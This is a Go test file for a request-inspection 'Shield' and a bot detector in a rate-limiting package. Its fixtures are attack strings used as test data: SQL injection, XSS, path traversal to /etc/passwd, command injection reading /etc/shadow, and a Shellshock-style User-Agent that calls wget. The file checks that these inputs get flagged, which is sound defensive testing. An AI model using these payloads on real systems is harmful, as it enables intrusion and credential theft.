package ratelimit

import (
	"testing"

	"github.com/stretchr/testify/assert"
)

func TestShield_Malicious(t *testing.T) {
	tests := []struct {
		name     string
		req      RequestContext
		want     bool
		wantType ThreatType
	}{
		{
			name: "clean request",
			req:  RequestContext{Path: "/auth/sign-in", RawQuery: "next=%2Fdashboard", UserAgent: browserUA},
		},
		{
			name:     "sql tautology",
			req:      RequestContext{Path: "/search", RawQuery: "q=' OR 1=1--"},
			want:     true,
			wantType: ThreatSQLInjection,
		},
		{
			name:     "encoded union select",
			req:      RequestContext{Path: "/items", RawQuery: "id=1%20UNION%20SELECT%20password%20FROM%20users"},
			want:     true,
			wantType: ThreatSQLInjection,
		},
		{
			name:     "script tag",
			req:      RequestContext{Path: "/", RawQuery: "name=<script>alert(1)</script>"},
			want:     true,
			wantType: ThreatXSS,
		},
		{
			name:     "event handler",
			req:      RequestContext{Path: "/", RawQuery: "img=x%22%20onerror%3Dalert(1)"},
			want:     true,
			wantType: ThreatXSS,
		},
		{
			name:     "path traversal",
			req:      RequestContext{Path: "/static/../../etc/passwd"},
			want:     true,
			wantType: ThreatPathTraversal,
		},
		{
			name:     "command injection",
			req:      RequestContext{Path: "/ping", RawQuery: "host=localhost;cat /etc/shadow"},
			want:     true,
			wantType: ThreatCommandInjection,
		},
		{
			name:     "attack in user agent",
			req:      RequestContext{Path: "/", UserAgent: "() { :; }; $(wget http://x)"},
			want:     true,
			wantType: ThreatCommandInjection,
		},
	}

	shield := NewShield()
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			d, got := shield.Malicious(tt.req)
			assert.Equal(t, tt.want, got)
			if tt.want {
				found := false
				for _, det := range shield.Inspect(tt.req) {
					if det.Type == tt.wantType {
						found = true
					}
				}
				assert.True(t, found, "expected a %s detection, first was %s", tt.wantType, d.Type)
			}
		})
	}
}

func TestBotDetector_Detect(t *testing.T) {
	tests := []struct {
		ua   string
		want bool
	}{
		{browserUA, false},
		{"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 Version/17.0 Safari/605.1.15", false},
		{"", true},
		{"   ", true},
		{"curl/8.4.0", true},
		{"python-requests/2.31.0", true},
		{"Go-http-client/1.1", true},
		{"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", true},
		{"Mozilla/5.0 HeadlessChrome/120.0", true},
	}

	bots := NewBotDetector()
	for _, tt := range tests {
		t.Run(tt.ua, func(t *testing.T) {
			_, got := bots.Detect(tt.ua)
			assert.Equal(t, tt.want, got)
		})
	}
}
